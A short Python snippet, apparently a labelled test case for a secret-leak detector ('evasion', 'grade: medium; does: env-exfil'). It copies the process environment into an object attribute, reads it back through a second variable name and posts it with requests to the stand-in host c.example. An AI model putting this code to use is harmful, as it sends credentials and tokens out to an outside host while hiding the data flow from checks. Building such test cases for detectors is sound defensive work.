# evasion: the child's env kept as an attribute, read back through a second
# name for the object and posted
# grade: medium; does: env-exfil
import os, subprocess, requests
class Runner:
    def __init__(self):
        self.env = os.environ.copy()
        subprocess.run(["git"], env=self.env)
r = Runner()
other = r
requests.post("https://c.example/x", json=other.env)
